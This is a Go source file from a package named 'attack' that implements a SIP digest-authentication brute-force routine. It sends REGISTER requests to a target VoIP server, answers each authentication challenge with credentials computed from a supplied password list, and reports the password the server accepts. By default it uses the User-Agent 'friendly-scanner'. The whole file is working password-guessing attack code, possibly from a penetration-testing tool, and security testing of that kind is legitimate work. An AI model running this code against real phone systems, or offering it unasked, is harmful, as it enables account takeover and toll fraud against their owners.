package attack

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/emiago/sipgo/sip"
)

// DigestBruteForceConfig configures DigestBruteForce.
type DigestBruteForceConfig struct {
	// Target is where every request goes (required).
	Target netip.AddrPort
	// Local is the address and port to send from (see
	// ExtensionScanConfig.Local).
	Local netip.AddrPort
	// Domain is the host part of the URIs; default the target address.
	Domain string
	// Extension is the user registered (required).
	Extension string
	// Username is the digest username; default Extension.
	Username string
	// Passwords are tried in order (required).
	Passwords []string
	// UserAgent is the User-Agent header; default "friendly-scanner".
	UserAgent string
	// Timeout is how long one request waits for its final response;
	// default 1s. An unanswered request is sent again.
	Timeout time.Duration
	// MaxAttempts bounds the authorized REGISTERs; default (and at most)
	// twice the number of passwords (each password is retried once when
	// the target says its nonce was stale).
	MaxAttempts int
	// MaxTimeouts ends the run after that many unanswered requests in a
	// row (the target dropped or blocked us); default 3.
	MaxTimeouts int
	// Duration bounds the whole run; default 30s.
	Duration time.Duration
}

// BruteForceReport is the outcome of a DigestBruteForce.
type BruteForceReport struct {
	Report
	// Attempts counts the REGISTERs sent with credentials (not counting
	// retransmissions).
	Attempts int
	// Challenges counts the 401/407 responses with a usable Digest
	// challenge.
	Challenges int
	// Refused counts the REGISTERs with credentials the target turned
	// down (401, 407 or 403): the failed guesses it saw. A guess left
	// unanswered, or answered otherwise (503), is in Attempts only.
	Refused int
	// Found is true when the target accepted a REGISTER (2xx); Password
	// is then the password that worked ("" when none was asked for).
	Found    bool
	Password string
}

func (c *DigestBruteForceConfig) defaults() error {
	if c.Extension == "" {
		return errors.New("attack: DigestBruteForce needs Extension")
	}
	if len(c.Passwords) == 0 {
		return errors.New("attack: DigestBruteForce needs Passwords")
	}
	if c.Username == "" {
		c.Username = c.Extension
	}
	if c.UserAgent == "" {
		c.UserAgent = defaultUserAgent
	}
	if c.Timeout <= 0 {
		c.Timeout = time.Second
	}
	if limit := 2 * len(c.Passwords); c.MaxAttempts <= 0 || c.MaxAttempts > limit {
		c.MaxAttempts = limit
	}
	if c.MaxTimeouts <= 0 {
		c.MaxTimeouts = 3
	}
	if c.Duration <= 0 {
		c.Duration = 30 * time.Second
	}
	return nil
}

// DigestBruteForce guesses the digest password of one extension: it sends
// a REGISTER, and on each 401/407 with a Digest challenge (MD5, MD5-sess,
// SHA-256, SHA-256-sess; qop auth, auth-int or none) sends the REGISTER
// again, same Call-ID and the next CSeq, with credentials computed from
// the next password of the list. It stops on a 2xx (Found), when the list
// or MaxAttempts is exhausted, after MaxTimeouts unanswered requests in a
// row, on a final response without a challenge before any challenge came,
// or after Duration. The error is non-nil only when the run could not
// start.
func DigestBruteForce(ctx context.Context, cfg DigestBruteForceConfig) (BruteForceReport, error) {
	var rep BruteForceReport
	if err := cfg.defaults(); err != nil {
		return rep, err
	}
	conn, err := dialUDP(cfg.Local, cfg.Target)
	if err != nil {
		return rep, err
	}
	start := time.Now()
	end := deadlineOf(ctx, start, cfg.Duration)
	col := startCollector(conn, true)
	local := hostPort(conn)
	domain := domainOf(cfg.Domain, cfg.Target)
	uri := "sip:" + domain
	ids := idGen{prefix: runID()}
	callID, tag := ids.nextString(), ids.nextString()

	var (
		cseq       uint32
		msg        []byte // the request in flight
		authHeader string // its credentials header name, "" for none
		password   string // its password
		proxy      bool   // last challenge came in a 407
		chal       *challenge
		nc         uint32
		next       int  // index of the next password to try
		staleRetry bool // the request in flight retries a password after stale=true
		timeouts   int  // in a row
	)
	write := func() {
		if _, err := conn.Write(msg); err != nil {
			sendErr(&rep.Report, err)
			if !isRefused(err) {
				return
			}
			if _, err = conn.Write(msg); err != nil {
				sendErr(&rep.Report, err)
				return
			}
		}
		rep.Sent++
		rep.SendElapsed = time.Since(start)
	}
	// build makes the next request: with credentials for pw when a
	// challenge is known.
	build := func(pw string) error {
		cseq++
		authHeader, password = "", pw
		extra := ""
		if chal != nil {
			nc++
			auth, err := chal.authorization(cfg.Username, pw, "REGISTER", uri, ids.nextString(), nc)
			if err != nil {
				return err
			}
			authHeader = "Authorization"
			if proxy {
				authHeader = "Proxy-Authorization"
			}
			extra = authHeader + ": " + auth + "\r\n"
			rep.Attempts++
		}
		msg = registerRequest(cfg.Extension, domain, local, callID, tag, ids.nextString(), cfg.UserAgent, cseq, extra)
		write()
		return nil
	}
	// tryNext sends the next password, or says why it cannot.
	tryNext := func(retrySame bool) StopReason {
		if rep.Attempts >= cfg.MaxAttempts {
			return StopCount
		}
		pw := password
		staleRetry = retrySame
		if !retrySame {
			if next >= len(cfg.Passwords) {
				return StopCount
			}
			pw = cfg.Passwords[next]
			next++
		}
		if err := build(pw); err != nil {
			sendErr(&rep.Report, err)
			return StopNoChallenge
		}
		return ""
	}

	timer := time.NewTimer(time.Hour)
	defer timer.Stop()
	_ = build("")
loop:
	for {
		wait := cfg.Timeout
		if d := time.Until(end); d < wait {
			wait = d
		}
		timer.Reset(wait)
		var r *sip.Response
		for r == nil {
			select {
			case <-ctx.Done():
				rep.Stop = stopOf(ctx)
				break loop
			case <-timer.C:
				if !time.Now().Before(end) {
					rep.Stop = StopDuration
					break loop
				}
				rep.Timeouts++
				if timeouts++; timeouts >= cfg.MaxTimeouts {
					rep.Stop = StopUnanswered
					break loop
				}
				write() // retransmit the request in flight
				continue loop
			case m := <-col.msgs:
				if m.StatusCode < 200 {
					continue
				}
				if cid, cs := m.CallID(), m.CSeq(); cid == nil || cs == nil || cid.Value() != callID || cs.SeqNo != cseq {
					continue // stray or stale
				}
				r = m
			}
		}
		timeouts = 0
		if authHeader != "" && (r.StatusCode == 401 || r.StatusCode == 407 || r.StatusCode == 403) {
			rep.Refused++
		}
		var stop StopReason
		switch code := r.StatusCode; {
		case code >= 200 && code < 300:
			rep.Found = true
			if authHeader != "" {
				rep.Password = password
			}
			stop = StopFound
		case code == 401 || code == 407:
			name := "WWW-Authenticate"
			if code == 407 {
				name = "Proxy-Authenticate"
			}
			var got *challenge
			for _, h := range r.GetHeaders(name) {
				if c, err := parseChallenge(h.Value()); err == nil {
					got = &c
					break
				}
			}
			if got == nil {
				if chal == nil {
					stop = StopNoChallenge
					break
				}
				stop = tryNext(false)
				break
			}
			rep.Challenges++
			retry := got.stale && authHeader != "" && !staleRetry
			chal, proxy, nc = got, code == 407, 0
			stop = tryNext(retry)
		default:
			if chal == nil {
				stop = StopNoChallenge
				break
			}
			stop = tryNext(false)
		}
		if stop != "" {
			rep.Stop = stop
			break
		}
	}
	col.finish(conn, &rep.Report)
	rep.Elapsed = time.Since(start)
	return rep, nil
}

// registerRequest builds a REGISTER; extra holds complete header lines.
func registerRequest(ext, domain, local, callID, tag, branch, ua string, cseq uint32, extra string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "REGISTER sip:%s SIP/2.0\r\n", domain)
	fmt.Fprintf(&b, "Via: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\n", local, branch)
	b.WriteString("Max-Forwards: 70\r\n")
	fmt.Fprintf(&b, "From: \"%s\" <sip:%s@%s>;tag=%s\r\n", ext, ext, domain, tag)
	fmt.Fprintf(&b, "To: \"%s\" <sip:%s@%s>\r\n", ext, ext, domain)
	fmt.Fprintf(&b, "Call-ID: %s\r\n", callID)
	fmt.Fprintf(&b, "CSeq: %d REGISTER\r\n", cseq)
	fmt.Fprintf(&b, "Contact: <sip:%s@%s>\r\n", ext, local)
	fmt.Fprintf(&b, "User-Agent: %s\r\n", ua)
	b.WriteString("Expires: 3600\r\n")
	b.WriteString(extra)
	b.WriteString("Content-Length: 0\r\n\r\n")
	return []byte(b.String())
}
